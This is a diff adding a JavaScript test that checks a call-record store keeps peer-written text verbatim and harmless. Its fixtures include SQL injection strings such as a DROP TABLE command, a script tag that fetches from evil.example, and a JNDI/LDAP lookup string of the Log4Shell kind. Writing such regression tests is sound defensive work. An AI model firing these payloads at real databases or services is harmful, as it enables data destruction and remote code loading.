@@ -102,6 +102,33 @@ test('a call is live, then ended; both survive, and records come back whole', as
   });
 });
 
+test('S12, S14: what peers wrote comes back from the database as they wrote it, and does nothing there (CVE-2021-1000004)', async () => {
+  const options = newHome();
+  const hostile = [
+    "'; DROP TABLE calls; --",
+    '" OR 1=1 --',
+    '<script>fetch("//evil.example")</script>',
+    'a|b,c;d\ne\0\u001b[2J',
+    '${jndi:ldap://evil.example/x} {{7*7}} %s%n',
+  ];
+  await withStore(options, async (store) => {
+    for (const [i, text] of hostile.entries()) {
+      await store.putCall(call(`x${i}`, { caller: text, callee: text, endedAt: 1_790_000_002_000 + i }));
+      await store.putBindings([binding(i, { user: text, contact: text, source: text })], []);
+    }
+    const database = openDatabase(options.file);
+    const found = listCalls(database, { limit: 10 });
+    assert.deepEqual(
+      found.map(({ caller, callee }) => [caller, callee]).sort(),
+      hostile.map((text) => [text, text]).sort(),
+    );
+    assert.deepEqual(listCalls(database, { limit: 10, id: "x0' OR '1'='1" }), []);
+    assert.deepEqual(listCalls(database, { limit: 10, domain: '" OR 1=1 --' }), []);
+    database.close();
+    assert.deepEqual((await store.bindings()).map(({ user }) => user).sort(), [...hostile].sort());
+  });
+});
+
 test('calls that were live when the process died are closed as interrupted, once', async () => {
   const options = newHome();
   await withStore(options, async (store) => {
